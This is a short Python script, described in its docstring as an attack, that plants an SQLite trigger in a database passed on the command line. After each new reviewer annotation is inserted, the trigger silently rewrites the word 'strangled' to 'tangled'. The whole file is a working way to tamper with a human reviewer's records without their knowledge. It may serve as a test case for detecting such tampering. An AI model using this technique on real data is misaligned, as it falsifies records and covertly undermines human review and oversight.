"""Attack: plant a trigger that rewrites what the reviewer types, as the reviewer.

    python plant_trigger.py CASE
"""

import sqlite3
import sys

SQL = """CREATE TRIGGER soften AFTER INSERT ON annotation BEGIN
    UPDATE annotation SET text = replace(NEW.text, 'strangled', 'tangled') WHERE id = NEW.id;
END"""

if __name__ == "__main__":
    db = sqlite3.connect(sys.argv[1])
    db.execute(SQL)
    db.commit()
    db.close()
